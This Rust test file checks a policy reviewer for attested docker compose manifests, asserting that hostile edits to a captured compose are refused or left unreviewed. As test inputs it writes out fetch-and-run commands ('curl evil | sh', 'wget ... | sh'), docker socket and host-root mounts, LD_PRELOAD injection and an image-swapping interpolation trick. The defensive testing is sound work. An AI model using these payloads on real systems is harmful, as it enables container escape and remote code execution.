//! The workload policy on the real capture's compose and on variants of it: what a hostile
//! Venice could change, each refused or not taken for a gateway; what may change, accepted.

use super::*;
use crate::config::attestation::default_workloads;
use serde_json::{json, Value};

const NEAR_OS: &str = "9b69bb1698bacbb6985409a2c272bcb892e09cdcea63d5399c6768b67d3ff677";
const DEV_OS: &str = "0e09f2bcb510c682b461d16b97192c710886db582852991e05146291063f890b";
const COMMIT: &str = "aa65d64c191949b8df7b1ebe210f5b8f8a8e6b99";

/// The manifest of the real 2026-04-24 capture (the text MRCONFIGID binds).
fn capture_manifest() -> Value {
    let body = std::fs::read(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/data/capture/0001_api.venice.ai_api_v1_tee_attestation.body"
    ))
    .unwrap();
    let v: Value = serde_json::from_slice(&body).unwrap();
    let text = v["info"]["tcb_info"]["app_compose"].as_str().map_or_else(
        || {
            let info: Value = serde_json::from_str(v["info"].as_str().unwrap()).unwrap();
            let tcb: Value = serde_json::from_str(info["tcb_info"].as_str().unwrap()).unwrap();
            tcb["app_compose"].as_str().unwrap().to_string()
        },
        str::to_string,
    );
    serde_json::from_str(&text).unwrap()
}

/// The docker compose file of a manifest, as YAML to edit.
fn services_of(m: &Value) -> serde_yaml::Value {
    serde_yaml::from_str(m["docker_compose_file"].as_str().unwrap()).unwrap()
}

fn with_compose(m: &Value, yaml: &serde_yaml::Value) -> Value {
    let mut m = m.clone();
    m["docker_compose_file"] = json!(serde_yaml::to_string(yaml).unwrap());
    m
}

fn judged(m: &Value, os: Option<&str>, policy: &[ReviewedWorkload]) -> WorkloadReview {
    let text = m.to_string();
    let c = AppCompose::parse(&text).unwrap();
    review(
        &c,
        &hex::encode(Sha256::digest(text.as_bytes())),
        os,
        policy,
    )
}

fn edit(m: &Value, f: impl FnOnce(&mut serde_yaml::Value)) -> Value {
    let mut y = services_of(m);
    f(&mut y);
    with_compose(m, &y)
}

fn svc<'a>(y: &'a mut serde_yaml::Value, name: &str) -> &'a mut serde_yaml::Value {
    &mut y["services"][name]
}

fn set(y: &mut serde_yaml::Value, yaml: &str) {
    let v: serde_yaml::Value = serde_yaml::from_str(yaml).unwrap();
    for (k, v) in v.as_mapping().unwrap() {
        y[k.as_str().unwrap()] = v.clone();
    }
}

#[test]
fn the_shipped_policy_reads_and_validates() {
    let policy = default_workloads();
    validate(&policy).unwrap();
    assert_eq!(
        policy.iter().map(|w| w.name.as_str()).collect::<Vec<_>>(),
        [
            "near-ai-gpu-2026-04",
            "near-ai-gpu-2026-06",
            "venice-aci-gateway-aa65d64"
        ]
    );
    assert!(policy.iter().all(|w| !w.source.is_empty()));
}

#[test]
fn the_real_capture_is_a_reviewed_workload_and_no_gateway() {
    let r = judged(&capture_manifest(), Some(NEAR_OS), &default_workloads());
    assert_eq!(r.status, ReviewStatus::Reviewed, "{r:#?}");
    assert_eq!(r.workload.as_deref(), Some("near-ai-gpu-2026-04"));
    assert!(r.gateway.is_none());
    // What the deployer decides in reviewed fields is said.
    assert!(
        r.unmeasured
            .iter()
            .any(|u| u.contains("certbot-init") && u.contains("CERTBOT_EMAIL")),
        "{:?}",
        r.unmeasured
    );
    // Another OS image than the one reviewed is not that workload.
    let r = judged(&capture_manifest(), Some(DEV_OS), &default_workloads());
    assert_eq!(r.status, ReviewStatus::Unreviewed);
    assert!(
        r.differences.iter().any(|d| d.contains("OS image")),
        "{r:?}"
    );
}

/// The 2026-06-10 capture's compose (13rac1/teep's capture; its real text was checked to
/// match the shipped entry), rebuilt from the 2026-04-24 one with the changes it made: the
/// launcher that picks compose-manager's image at runtime, compose-manager in the host's
/// PID namespace, four more deployer variables.
fn june_manifest() -> Value {
    let mut m = edit(&capture_manifest(), |y| {
        let cm = svc(y, "compose-manager");
        cm["image"] = "${COMPOSE_MANAGER_IMAGE:-nearaidev/compose-manager@sha256:44aa2344d68609700074a8076ed177bb1989c7f5fd1e175a13084d512be475e9}".into();
        set(cm, "pid: host\ncap_add: [SYS_ADMIN, SYS_PTRACE]");
        y["services"]["compose-manager-launcher"] = serde_yaml::from_str(
            "image: nearaidev/compose-manager-launcher@sha256:171c1cffea23625628fc11038a590173745d83e3570d855e53ab5a91279f95bf
container_name: compose-manager-launcher
restart: unless-stopped
network_mode: host
volumes:
  - /var/run/docker.sock:/var/run/docker.sock
  - /dstack/.host-shared/.decrypted-env:/dstack-env:ro
  - work:/app/work
environment:
  - COMPOSE_MANAGER_IMAGE_REPO=nearaidev/compose-manager
  - LAUNCHER_CHANNEL=${LAUNCHER_CHANNEL:-latest}
  - LAUNCHER_COMPOSE_PROJECT=dstack
  - LAUNCHER_ENV_FILE=/app/work/.env.launcher
  - LAUNCHER_BASE_ENV_FILE=/dstack-env
  - LAUNCHER_HEALTH_URL=http://127.0.0.1:8080/version
  - LAUNCHER_COSIGN_IDENTITY_REGEXP=https://github.com/nearai/compose-manager/.github/workflows/.*
  - DOCKER_REGISTRY_USER=${DOCKER_REGISTRY_USER:-}
",
        )
        .unwrap();
    });
    let envs = m["allowed_envs"].as_array_mut().unwrap();
    for e in [
        "SLACK_WEBHOOK_URL",
        "DOCKER_REGISTRY_USER",
        "DOCKER_REGISTRY_TOKEN",
        "LAUNCHER_CHANNEL",
    ] {
        envs.push(json!(e));
    }
    m
}

#[test]
fn a_launcher_choosing_an_image_at_runtime_is_reviewed_only_where_the_review_says_so() {
    let policy = default_workloads();
    let r = judged(&june_manifest(), Some(NEAR_OS), &policy);
    assert_eq!(r.status, ReviewStatus::Reviewed, "{r:#?}");
    assert_eq!(r.workload.as_deref(), Some("near-ai-gpu-2026-06"));
    assert!(
        r.unmeasured
            .iter()
            .any(|u| u.contains("set at runtime by service `compose-manager-launcher`")),
        "{:?}",
        r.unmeasured
    );
    // Without that review, the variable is what it is: not measured, refused.
    let strict: Vec<ReviewedWorkload> = policy
        .into_iter()
        .map(|mut w| {
            w.runtime_vars.clear();
            w
        })
        .collect();
    let r = judged(&june_manifest(), Some(NEAR_OS), &strict);
    assert_eq!(r.status, ReviewStatus::Refused);
    assert!(r.refusals[0].contains("${COMPOSE_MANAGER_IMAGE}"), "{r:?}");
    assert!(r.policy_lines.is_none());
}

/// Issue 39, finding 1: a word naming the gateway's repository, anywhere a setting may
/// change freely, makes no gateway. The workload is still the reviewed NEAR one, which must
/// prove its GPUs.
#[test]
fn naming_the_gateway_makes_no_gateway() {
    let m = edit(&capture_manifest(), |y| {
        let certbot = svc(y, "certbot");
        certbot["environment"] = serde_yaml::from_str(&format!(
            "[GIT_REPO=https://github.com/Dstack-TEE/private-ai-gateway.git, GIT_REV={COMMIT}]"
        ))
        .unwrap();
    });
    let r = judged(&m, Some(NEAR_OS), &default_workloads());
    assert_eq!(r.status, ReviewStatus::Reviewed);
    assert!(r.gateway.is_none());
    // In a command it changes the program: not reviewed, and still no gateway.
    let m = edit(&capture_manifest(), |y| {
        svc(y, "certbot")["entrypoint"] = format!(
            "/bin/sh -c 'git clone https://github.com/Dstack-TEE/private-ai-gateway {COMMIT}'"
        )
        .into();
    });
    let r = judged(&m, Some(NEAR_OS), &default_workloads());
    assert_eq!(r.status, ReviewStatus::Unreviewed);
    assert!(r.gateway.is_none());
}

/// Issue 39, finding 2: a pinned image is not a pinned program. Every override of what the
/// image runs or may reach is a difference from the review.
#[test]
fn what_changes_the_program_is_not_reviewed() {
    let base = capture_manifest();
    let cases: Vec<(&str, Value)> = vec![
        (
            "`entrypoint`",
            edit(&base, |y| {
                svc(y, "datadog-agent")["entrypoint"] = "sh -c 'wget -qO- http://x | sh'".into()
            }),
        ),
        (
            "`command`",
            edit(&base, |y| {
                svc(y, "compose-manager")["command"] = "sh -c evil".into()
            }),
        ),
        (
            "`volumes`",
            edit(&base, |y| {
                set(
                    svc(y, "certbot"),
                    "volumes: [certs:/etc/letsencrypt, /var/run/docker.sock:/var/run/docker.sock]",
                )
            }),
        ),
        (
            "`privileged`",
            edit(&base, |y| svc(y, "certbot")["privileged"] = true.into()),
        ),
        (
            "`cap_add`",
            edit(&base, |y| set(svc(y, "certbot"), "cap_add: [SYS_ADMIN]")),
        ),
        (
            "`devices`",
            edit(&base, |y| set(svc(y, "certbot"), "devices: [/dev/mem]")),
        ),
        (
            "`pid`",
            edit(&base, |y| svc(y, "certbot")["pid"] = "host".into()),
        ),
        (
            "`network_mode`",
            edit(&base, |y| svc(y, "certbot")["network_mode"] = "host".into()),
        ),
        (
            "`env_file`",
            edit(&base, |y| svc(y, "certbot")["env_file"] = ".env".into()),
        ),
        (
            "`build`",
            edit(&base, |y| svc(y, "certbot")["build"] = ".".into()),
        ),
        (
            "`LD_PRELOAD` (read as code)",
            edit(&base, |y| {
                svc(y, "certbot")["environment"] =
                    serde_yaml::from_str("[LD_PRELOAD=/tmp/x.so]").unwrap()
            }),
        ),
        (
            "environment `GITHUB_REPO`",
            edit(&base, |y| {
                let env = svc(y, "compose-manager")["environment"]
                    .as_sequence_mut()
                    .unwrap();
                env[0] = "GITHUB_REPO=https://github.com/attacker/composes".into();
            }),
        ),
        (
            "image",
            edit(&base, |y| {
                svc(y, "certbot")["image"] =
                    format!("certbot/dns-cloudflare@sha256:{}", "ab".repeat(32)).into()
            }),
        ),
        (
            "`configs`",
            edit(&base, |y| {
                y["configs"]["journald_config_file"]["content"] = "#!/bin/sh\nwget evil\n".into()
            }),
        ),
        (
            "`volumes`: reviewed",
            edit(&base, |y| {
                y["volumes"]["certs"] =
                    serde_yaml::from_str("{driver_opts: {type: none, o: bind, device: /}}").unwrap()
            }),
        ),
        (
            "service `shell` is not reviewed",
            edit(&base, |y| {
                y["services"]["shell"] = serde_yaml::from_str("{image: alpine}").unwrap()
            }),
        ),
    ];
    for (says, m) in cases {
        let r = judged(&m, Some(NEAR_OS), &default_workloads());
        assert_eq!(r.status, ReviewStatus::Unreviewed, "{says}");
        assert!(
            r.differences.iter().any(|d| d.contains(says)),
            "{says}: {:?}",
            r.differences
        );
        assert_eq!(r.closest.as_deref(), Some("near-ai-gpu-2026-04"));
    }
    // The manifest around it: a pre-launch script, a deployer variable, a setting.
    let mut m = base.clone();
    m["pre_launch_script"] = json!("#!/bin/sh\ncurl evil | sh\n");
    let r = judged(&m, Some(NEAR_OS), &default_workloads());
    assert!(
        r.differences
            .iter()
            .any(|d| d.contains("pre_launch_script")),
        "{r:?}"
    );
    let mut m = base.clone();
    m["allowed_envs"].as_array_mut().unwrap().push(json!("IMG"));
    let r = judged(&m, Some(NEAR_OS), &default_workloads());
    assert!(
        r.differences
            .iter()
            .any(|d| d.contains("allowed_envs adds IMG")),
        "{r:?}"
    );
    let mut m = base.clone();
    m["public_logs"] = json!(true);
    let r = judged(&m, Some(NEAR_OS), &default_workloads());
    assert!(
        r.differences.iter().any(|d| d.contains("`public_logs`")),
        "{r:?}"
    );
    // What may change: log sizes, labels, restart, ordinary environment values.
    let m = edit(&base, |y| {
        let dd = svc(y, "datadog-agent");
        dd["logging"]["options"]["max-size"] = "500m".into();
        dd["restart"] = "always".into();
        svc(y, "compose-manager")["labels"] = serde_yaml::from_str("{x: y}").unwrap();
        let env = svc(y, "compose-manager")["environment"]
            .as_sequence_mut()
            .unwrap();
        env.push("WORK_DIR_EXTRA=/tmp".into());
    });
    let r = judged(&m, Some(NEAR_OS), &default_workloads());
    assert_eq!(r.status, ReviewStatus::Reviewed, "{r:#?}");
}

/// Issue 39, finding 3: interpolation of a variable outside `allowed_envs` in what runs is
/// refused whatever the policy says, a whole-compose pin included.
#[test]
fn interpolation_nobody_controls_is_refused_whatever_the_policy_says() {
    let pinned = "certbot/dns-cloudflare@sha256:742dbd2e61c8709b930712c38958386c3cb3928e09eeb1f1e490600c127e2edb";
    let m = edit(&capture_manifest(), |y| {
        svc(y, "certbot")["image"] =
            format!("${{SHLVL:+attacker/image}}${{SHLVL:-{pinned}}}").into();
    });
    let text = m.to_string();
    let hash = hex::encode(Sha256::digest(text.as_bytes()));
    let mut policy = default_workloads();
    policy.push(ReviewedWorkload {
        name: "pinned".into(),
        source: "an operator pinning the whole compose".into(),
        compose_hashes: vec![hash],
        os_images: vec![],
        pre_launch_scripts: vec![],
        allowed_envs: vec![],
        runtime_vars: Default::default(),
        gateway: None,
        manifest: Default::default(),
        services: Default::default(),
        definitions: Default::default(),
    });
    let r = judged(&m, Some(NEAR_OS), &policy);
    assert_eq!(r.status, ReviewStatus::Refused, "{r:#?}");
    assert!(r.refusals[0].contains("${SHLVL}"), "{:?}", r.refusals);
    // The same pin of a compose without it is accepted.
    let text = capture_manifest().to_string();
    policy.last_mut().unwrap().compose_hashes = vec![hex::encode(Sha256::digest(text.as_bytes()))];
    policy.retain(|w| w.name == "pinned");
    let r = judged(&capture_manifest(), Some(NEAR_OS), &policy);
    assert_eq!(r.status, ReviewStatus::Reviewed, "{r:#?}");
    assert_eq!(r.workload.as_deref(), Some("pinned"));
    // A variable the deployer sets where the review has none is a difference, and the
    // policy lines printed for it name the variable where it is.
    let m = edit(&capture_manifest(), |y| {
        svc(y, "certbot")["image"] = format!("${{CERTBOT_EMAIL:-{pinned}}}").into();
    });
    let r = judged(&m, Some(NEAR_OS), &default_workloads());
    assert_eq!(r.status, ReviewStatus::Unreviewed);
    assert!(r
        .policy_lines
        .as_deref()
        .unwrap()
        .contains("${CERTBOT_EMAIL:-"));
    // What the reader cannot read with certainty.
    let m = edit(&capture_manifest(), |y| {
        svc(y, "certbot")["command"] = "echo $1".into();
    });
    let r = judged(&m, Some(NEAR_OS), &default_workloads());
    assert_eq!(r.status, ReviewStatus::Refused);
}

/// The ACI gateway: only the reviewed launcher at the reviewed commit is a gateway.
fn gateway_manifest(launcher_env: &str, launcher_image: &str) -> Value {
    let yaml = format!(
        "services:
  dstack-ingress:
    image: dstacktee/dstack-ingress:2.2@sha256:{d}
    environment: [DOMAINS=tee.example.com]
    volumes: [/var/run/dstack.sock:/var/run/dstack.sock, cert-data:/etc/letsencrypt]
  launcher:
    image: {launcher_image}
    environment: {launcher_env}
    volumes: [/var/run/dstack.sock:/var/run/dstack.sock, pal-cache:/var/cache/pal, pal-state:/var/lib/pal]
    configs: [{{source: gateway-upstreams, target: /etc/private-ai-gateway/upstreams.seed.json}}]
  dstack-verifier:
    image: dstacktee/dstack-verifier:latest
  node-exporter:
    image: prom/node-exporter:v1.8.2@sha256:{d}
    command: [--path.procfs=/host/proc, --path.sysfs=/host/sys]
    volumes: [/proc:/host/proc:ro, /sys:/host/sys:ro]
configs:
  gateway-upstreams:
    content: |
      []
volumes:
  cert-data:
  pal-cache:
  pal-state:
",
        d = "ab".repeat(32)
    );
    json!({"manifest_version": 2, "name": "gw", "runner": "docker-compose", "docker_compose_file": yaml,
        "allowed_envs": ["ADMIN_TOKEN"], "kms_enabled": true, "local_key_provider_enabled": false,
        "key_provider_id": "", "public_logs": true, "secure_time": false})
}

const LAUNCHER: &str = "ghcr.io/redpill-ai/private-ai-launcher@sha256:0101010101010101010101010101010101010101010101010101010101010101";

fn launcher_env(commit: &str) -> String {
    format!("[GIT_REPO=https://github.com/Dstack-TEE/private-ai-gateway.git, GIT_REV={commit}, 'RUST_LOG=info,request_outcome=debug']")
}

#[test]
fn the_gateway_is_the_reviewed_launcher_at_the_reviewed_commit() {
    let policy = default_workloads();
    let r = judged(
        &gateway_manifest(&launcher_env(COMMIT), LAUNCHER),
        Some(DEV_OS),
        &policy,
    );
    assert_eq!(r.status, ReviewStatus::Reviewed, "{r:#?}");
    assert_eq!(r.gateway.as_ref().unwrap().commit, COMMIT);
    // Issue 39, finding 4: a fork's commit, served under the parent repository's URL.
    let fork = "0123456789abcdef0123456789abcdef01234567";
    let r = judged(
        &gateway_manifest(&launcher_env(fork), LAUNCHER),
        Some(DEV_OS),
        &policy,
    );
    assert_eq!(r.status, ReviewStatus::Unreviewed);
    assert!(r.gateway.is_none());
    assert!(r.differences.iter().any(|d| d.contains("GIT_REV")), "{r:?}");
    // The policy lines do not carry the gateway over to a commit nobody reviewed.
    let lines: Vec<ReviewedWorkload> =
        serde_yaml::from_str(r.policy_lines.as_deref().unwrap()).unwrap();
    assert!(lines[0].gateway.is_none());
    // Another launcher image, a tag instead of a digest, an interpolated image.
    for image in [
        "ghcr.io/attacker/private-ai-launcher@sha256:0101010101010101010101010101010101010101010101010101010101010101",
        "ghcr.io/redpill-ai/private-ai-launcher:latest",
        "${L:-ghcr.io/redpill-ai/private-ai-launcher@sha256:0101010101010101010101010101010101010101010101010101010101010101}",
    ] {
        let r = judged(&gateway_manifest(&launcher_env(COMMIT), image), Some(DEV_OS), &policy);
        assert_ne!(r.status, ReviewStatus::Reviewed, "{image}");
        assert!(r.gateway.is_none(), "{image}");
    }
    // An entrypoint on the launcher: the review's launcher no longer runs.
    let mut m = gateway_manifest(&launcher_env(COMMIT), LAUNCHER);
    let y = m["docker_compose_file"].as_str().unwrap().replace(
        "  launcher:\n",
        "  launcher:\n    entrypoint: [/bin/sh, -c, 'curl evil | sh']\n",
    );
    m["docker_compose_file"] = json!(y);
    let r = judged(&m, Some(DEV_OS), &policy);
    assert!(r.gateway.is_none() && r.status == ReviewStatus::Unreviewed);
}

#[test]
fn printed_policy_lines_accept_what_they_were_printed_for() {
    let m = edit(&capture_manifest(), |y| {
        set(svc(y, "certbot"), "cap_add: [NET_ADMIN]");
    });
    let r = judged(&m, Some(NEAR_OS), &default_workloads());
    assert_eq!(r.status, ReviewStatus::Unreviewed);
    let lines: Vec<ReviewedWorkload> =
        serde_yaml::from_str(r.policy_lines.as_deref().unwrap()).unwrap();
    validate(&lines).unwrap();
    // The closest review's code variables are kept, so they stay pinned.
    assert!(lines[0].services["compose-manager"]
        .code_env
        .contains_key("GITHUB_REPO"));
    let again = judged(&m, Some(NEAR_OS), &lines);
    assert_eq!(again.status, ReviewStatus::Reviewed, "{again:#?}");
    assert_eq!(again.digest, r.digest);
}

#[test]
fn a_policy_that_says_what_cannot_be_checked_is_refused_at_load() {
    let base = default_workloads();
    let broken = |f: &dyn Fn(&mut ReviewedWorkload)| {
        let mut p = base.clone();
        f(&mut p[2]);
        validate(&p).unwrap_err()
    };
    assert!(broken(&|w| {
        w.services
            .get_mut("launcher")
            .unwrap()
            .fields
            .insert("restart".into(), "always".into());
    })
    .contains("never compared"));
    assert!(
        broken(&|w| w.gateway.as_mut().unwrap().commit = "aa65d64".into()).contains("full commit")
    );
    assert!(broken(&|w| {
        w.services
            .get_mut("launcher")
            .unwrap()
            .fields
            .insert("entrypoint".into(), "/bin/sh".into());
    })
    .contains("entrypoint"));
    assert!(broken(&|w| {
        w.services
            .get_mut("launcher")
            .unwrap()
            .code_env
            .remove("GIT_REV");
    })
    .contains("names"));
    assert!(broken(&|w| w.name = "near-ai-gpu-2026-04".into()).contains("twice"));
    assert!(broken(&|w| w.os_images.push("dev".into())).contains("os_images"));
    assert!(broken(&|w| {
        w.runtime_vars.insert("X".into(), "nobody".into());
    })
    .contains("runtime_vars"));
}
